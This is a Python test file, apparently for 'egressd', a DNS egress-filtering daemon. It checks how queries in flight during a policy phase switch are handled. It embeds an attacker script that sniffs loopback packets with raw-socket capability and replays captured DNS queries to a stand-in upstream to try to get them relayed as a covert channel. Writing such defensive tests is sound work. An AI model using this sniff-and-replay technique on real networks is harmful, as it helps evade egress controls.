def test_a_query_in_flight_at_a_switch_is_not_sent_again_after_it(lab, egressd, mode, to):
    before, after, rcode = switched_mid_query(lab, egressd, mode, to)
    assert len(before) == 1 and not after, (before, after)
    assert rcode == "SERVFAIL", rcode


def test_a_query_in_flight_at_a_switch_to_a_phase_that_allows_it_goes_on(lab, egressd):
    """The control: a switch to a phase that still forwards the name leaves the query's schedule
    alone (TCP after the truncated answer, and the answer)."""
    before, after, rcode = switched_mid_query(lab, egressd, "truncate", "agent")
    assert len(before) == 1 and [e[1] for e in after] == ["tcp"], (before, after)
    assert rcode == "NOERROR", rcode


# A root process with only NET_RAW (Docker's default) in the sandbox: sniffs lo for egressd's
# query to Docker's resolver (127.0.0.11) whose question holds `label`, then, once the file
# `flag` exists (the switch was acknowledged), sends `k` copies of it to `target`:53, 20 ms
# apart, each with an ID and CD bit of its own: a channel of its choosing if relayed.
# argv: label, target, k, flag.
QUESTION_COPIER = textwrap.dedent(r'''
    import json, os, socket, sys, time
    label, target, k, flag = sys.argv[1].lower().encode(), sys.argv[2], int(sys.argv[3]), sys.argv[4]
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sniff.bind(("lo", 0))
    sniff.settimeout(0.05)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print("READY", flush=True)
    q = None
    deadline = time.monotonic() + 5
    while q is None and time.monotonic() < deadline:
        try:
            frame = sniff.recv(65535)
        except socket.timeout:
            continue
        pkt = frame[14:]
        if len(pkt) < 40 or pkt[9] != 17 or pkt[16:20] != socket.inet_aton("127.0.0.11"):
            continue
        m = pkt[(pkt[0] & 0xF) * 4 + 8:]
        if len(m) >= 17 and not m[2] & 0x80 and label in m.lower():
            q = m
    open(flag + ".seen", "w").close()
    while not os.path.exists(flag) and time.monotonic() < deadline:
        time.sleep(0.001)  # polling for the test's go, bounded by the deadline
    sent = 0
    for i in range(k if q is not None else 0):
        m = bytearray(q)
        m[0:2] = os.urandom(2)
        m[3] = (m[3] & ~0x10) | (0x10 if i % 2 else 0)
        out.sendto(bytes(m), (target, 53))
        sent += 1
        time.sleep(0.02)  # the attacker's own timing, not synchronisation
    print(json.dumps({"captured": q is not None, "sent": sent}))
''')


def test_copies_of_egressds_query_sent_after_a_switch_are_not_relayed(lab, egressd):
    target = "198.51.100.96"
    log = logging_upstream(lab, target, "silent")
    DockerResolver(lab, slow={"slow": 1400}, forward=target)
    d = egressd(policy("127.0.0.11"), extra=["--log-format", "json"])
    labmod.wait_for(lambda: "forwarder_pinned" in d.log(), 5.0, "egressd to pin Docker's forwarder target")
    label = f"slow{random.getrandbits(32):08x}"
    name = f"{label}.wild.example.org"
    flag = str(lab.tmp / f"go-{label}")
    k = 20
    copier = attacker(lab, QUESTION_COPIER, label, target, k, flag, caps=DOCKER_CAPS)
    s = lab.sandbox.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5.0)
    s.connect((DNS_V4, 53))
    s.send(labmod.dns_build_query(name, "A", 0x1234))
    labmod.wait_for(lambda: os.path.exists(flag + ".seen"), 3.0, "the copier to see egressd's query")
    rc, out, err = d.ctl("apply", "verifier")
    assert rc == 0, (rc, out, err)
    acked = time.monotonic()
    Path(flag).touch()
    res = attacker_result(copier)
    assert res == {"captured": True, "sent": k}, res
    rcode = labmod.dns_parse_reply(s.recv(4096))[1]
    s.close()
    after = [e for e in logged_queries(log, name) if e[0] > acked]
    assert not after, f"{len(after)} queries for the name reached the upstream after the switch ({k} copies sent)"
    assert rcode in ("SERVFAIL", "REFUSED"), rcode


def test_an_answer_arriving_after_a_switch_teaches_the_new_phase_nothing_it_does_not_allow(lab, egressd):
    """The old phase forwarded the name; its answer comes after the switch to a phase that does
    not allow it: the client gets it, the new phase's sets do not."""
    before, after, rcode = switched_mid_query(lab, egressd, "late", "other")
    assert len(before) == 1 and not after and rcode == "NOERROR", (before, after, rcode)
    assert "198.51.100.11" not in lab.learned_set(4, "ph_other")
